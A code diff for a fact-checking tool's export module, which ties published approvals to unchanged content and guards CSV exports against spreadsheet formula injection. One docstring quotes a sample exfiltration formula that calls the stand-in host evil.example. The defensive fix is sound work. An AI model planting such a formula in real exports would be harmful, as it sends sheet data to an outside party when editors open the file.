@@ -22,7 +22,7 @@ from typing import IO, Any
 
 from sqlite_utils import Database
 
-from . import clock, model, store
+from . import clock, model, store, store_approval
 from .errors import InputError
 
 FORMATS = ("claimreview", "csv", "jsonl", "markdown", "warc", "wacz")
@@ -227,7 +227,12 @@ def _publishing(db: Database) -> dict[str, Any]:
     """The settings and approvals a ClaimReview export reads once."""
     from . import settings, team
 
-    approvals = {r["claim_id"]: r for r in store.exports.current_approvals(db)}
+    # an approval counts while the claim's published content is what was approved
+    approvals = {
+        r["claim_id"]: r
+        for r in store.exports.current_approvals(db)
+        if store_approval.approval_stands(db, r["claim_id"], r["verdict_id"])
+    }
     return {
         "review_url": settings.get_value(db, "review_url"),
         "org_url": settings.get_value(db, "org_url"),
@@ -291,8 +296,29 @@ def claim_records(db: Database, *, article_id: int | None = None) -> Iterator[di
         yield c
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_formula(value: Any) -> Any:
+    """A text cell a spreadsheet would run as a formula (it starts with = + - @, a tab or a
+    carriage return) gets a leading apostrophe, so it is shown as text; other cells as they are.
+    An article paragraph `=HYPERLINK("http://evil.example/?d="&A1, ...)` must not become a link
+    that sends the sheet away when an editor opens the export."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+class _SafeWriter:
+    def __init__(self, stream: IO[str]) -> None:
+        self._writer = csv.writer(stream, lineterminator="\n")
+
+    def writerow(self, row: list[Any]) -> None:
+        self._writer.writerow([neutralise_formula(v) for v in row])
+
+
 def _write_csv(db: Database, records: list[dict[str, Any]], stream: IO[str]) -> None:
-    writer = csv.writer(stream, lineterminator="\n")
+    writer = _SafeWriter(stream)
     writer.writerow(CSV_COLUMNS)
     for c in records:
         base = [c["id"], c["article_id"], c["text"], c["status"], c["priority"], c["score"], c["verdict"],
